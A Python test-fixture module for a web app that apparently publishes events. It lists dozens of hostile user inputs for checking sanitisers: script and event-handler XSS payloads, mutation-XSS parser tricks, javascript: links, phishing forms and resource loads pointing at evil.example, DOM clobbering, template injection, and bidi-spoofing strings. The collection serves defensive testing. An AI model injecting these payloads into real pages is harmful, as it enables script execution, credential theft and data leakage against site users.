"""What strangers write who want more than to publish an event.

Each text says in `pwned()` that it ran, or asks evil.example for something, or leaves the page.
"""

# Raw in a page, without any policy, each of these runs, leaves the page or asks another host for something, with
# nobody touching it. tests/browser/test_hostile.py shows that they do, so that a detector gone blind is noticed.
LIVE = [
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<img/src='x'/onerror=pwned()>",
    '"><img src=x onerror=pwned()>',
    "'><img src=x onerror=pwned()>",
    "--><img src=x onerror=pwned()>",
    "<!--><img src=x onerror=pwned()>-->",
    "<img src=x onerror=&#112;wned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><script>&#112;wned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=pwned()></style></svg>",
    "<math><mtext><img src=x onerror=pwned()></mtext></math>",
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<input autofocus onfocus=pwned()>",
    "<a href=x autofocus tabindex=1 onfocus=pwned()>x</a>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<img src=//evil.example/beacon.gif>",
    '<p style="background:url(//evil.example/x.gif)">x</p>',
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<object data=//evil.example/></object>",
    "<embed src=//evil.example/>",
    "<table background=//evil.example/x.gif><tr><td>x</table>",
    "<base href=//evil.example/><img src=x>",
    # What one parser reads as text and the next one as elements.
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    '<textarea><p title="</textarea><img src=x onerror=pwned()>">',
    '<title><p title="</title><img src=x onerror=pwned()>">',
    '<style><p title="</style><img src=x onerror=pwned()>">',
    '<xmp><p title="</xmp><img src=x onerror=pwned()>">',
    '<iframe><p title="</iframe><img src=x onerror=pwned()>">',
    '<noembed><p title="</noembed><img src=x onerror=pwned()>">',
    "</textarea><img src=x onerror=pwned()>",
    "</title></script></style><img src=x onerror=pwned()>",
    "<table><tr><td><img src=x onerror=pwned()></table>",
    "<select><option></select><img src=x onerror=pwned()>",
]

# Raw, these wait for a click, clobber, cover, confuse, or depend on what a cleaner makes of them.
SLEEPING = [
    "<a href=javascript:pwned()>x</a>",
    "<a href=' java\tscript:pwned()'>x</a>",
    "<a href='java&#10;script:pwned()'>x</a>",
    "<a href='&#1;javascript:pwned()'>x</a>",
    "<a href='JaVaScRiPt&colon;pwned()'>x</a>",
    "<a href=data:text/html,<script>pwned()</script>>x</a>",
    "<a href='vbscript:pwned()'>x</a>",
    "<a href=//evil.example/ ping=//evil.example/ target=_top>x</a>",
    "[x](javascript:pwned())",
    "![x](//evil.example/x.gif)",
    "<javascript:pwned()>",
    "javascript:pwned()",
    'https://x.example/" onmouseover="pwned()',
    'x@y.example" onfocus=pwned() autofocus x="',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=pwned()>">',
    "<template><script>pwned()</script></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "<form action=//evil.example/><input name=q><button>Log in</button></form>",
    "<button form=changelist-form formaction=//evil.example/>x</button>",
    "<form id=clobber name=clobber><input name=attributes></form><a id=clobber name=clobber>x</a>",
    "<p id=main class='masthead skip' style='position:fixed;inset:0;z-index:99'>over everything</p>",
    "<p dir=rtl lang=he class=vh hidden>x</p>",
    "</p></div></article></main></body></html><h1>outside</h1>",
    "</td></tr></table></li></ol></ul></section><p>outside</p>",
    "</option></select></label></form></fieldset>outside",
    "<plaintext>",
    "<!-- never closed",
    "<![CDATA[ <b>x</b> ]]>",
    "<a href='//evil.example/?never closed",
    '<b title="never closed',
    "<table><tr><td>never closed",
    '<img src=x onerror="&#x70;wned()" alt=\'',
    "<img src='//evil.example/?",
    "<unfinished",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=pwned()&amp;gt;",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "${pwned()}`${pwned()}`",
    "%3Cscript%3Epwned()%3C/script%3E",
    "]]></title><script>pwned()</script>",
    "\u202eevil\u202d \u2066never closed \u2067",
    "\u05e9\u05dc\u05d5\u05dd 12 \u202b(x)",
    "\u202egro.elpmaxe@x.example",
    "https://x.example/\u202egpj.exe",
    "\u2028\u2029\ufeff\u200b invisible",
    "e" + "\u0301" * 40,
    "W" * 250,
    "http://" + "w" * 240,
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
]

# Only fields of any length hold these.
LONG = [
    "<p>" + "W" * 5_000 + "</p>",
    "<a href='https://x.example/" + "w" * 3_000 + "'>" + "w" * 3_000 + "</a>",
    "<pre>" + "W" * 3_000 + "</pre><table><tr>" + f"<td>{'W' * 200}</td>" * 20 + "</table>",
    "<blockquote>" * 99 + "deep",
    "<ul><li>" * 60 + "deep <img src=x onerror=pwned()>",
    "<b>" * 5_000 + "<script>pwned()</script>",
    "<blockquote>" * 20_000 + "<img src=x onerror=pwned()>",
    "</div>" * 500 + "<h1>outside</h1>",
    "<svg>" * 80 + "<style><img src=x onerror=pwned()>",
]

ALL = [*LIVE, *SLEEPING, *LONG]


def fitting(limit: int | None, number: int) -> str:
    """One of the texts that fit into `limit` characters, by number, round and round."""
    texts = ALL if limit is None else [text for text in ALL if len(text) <= limit]
    return texts[number % len(texts)]
